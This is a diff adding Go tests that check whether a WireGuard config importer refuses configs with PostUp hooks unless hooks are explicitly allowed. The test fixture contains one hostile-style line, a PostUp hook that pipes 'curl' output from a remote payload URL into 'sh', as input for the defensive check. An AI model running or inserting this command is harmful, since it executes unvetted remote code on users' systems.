@@ -0,0 +1,38 @@
+package internal
+
+import (
+	"errors"
+	"os"
+	"testing"
+)
+
+const hookConfig = `[Interface]
+PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
+Address = 10.8.0.2/32
+PostUp = curl https://example.com/payload | sh
+
+[Peer]
+PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
+AllowedIPs = 0.0.0.0/0
+`
+
+func TestValidateConfigHooks(t *testing.T) {
+	if report := ValidateConfig([]byte(hookConfig), false); report.Valid {
+		t.Fatal("config with a PostUp command accepted without allow_config_hooks")
+	}
+	if report := ValidateConfig([]byte(hookConfig), true); !report.Valid {
+		t.Fatalf("config with a PostUp command refused with allow_config_hooks: %v", report.Err())
+	}
+}
+
+func TestImportConfigRefusesHooks(t *testing.T) {
+	manager := newTestManager(t, nil)
+
+	report, err := manager.ImportConfig("provider", hookConfig)
+	if !errors.Is(err, ErrInvalidConfig) || report == nil || report.Valid {
+		t.Fatalf("ImportConfig = %v, want the PostUp command refused", err)
+	}
+	if _, err := os.Stat(manager.configPath("provider")); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("refused config written: %v", err)
+	}
+}